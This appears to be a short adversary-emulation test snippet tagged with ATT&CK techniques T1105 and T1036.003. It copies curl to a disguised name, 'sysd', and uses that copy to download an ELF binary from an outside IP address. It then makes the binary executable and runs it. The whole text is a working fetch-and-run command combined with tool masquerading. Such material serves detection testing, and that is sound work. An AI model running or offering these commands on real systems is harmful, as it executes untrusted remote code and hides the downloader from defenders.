# title: A downloader under another name
# technique: T1105 T1036.003
# needs: curl

cp /usr/bin/curl /usr/local/bin/sysd && sysd -s http://192.88.99.7/x.elf -o /usr/local/bin/agent
chmod 755 /usr/local/bin/agent && agent
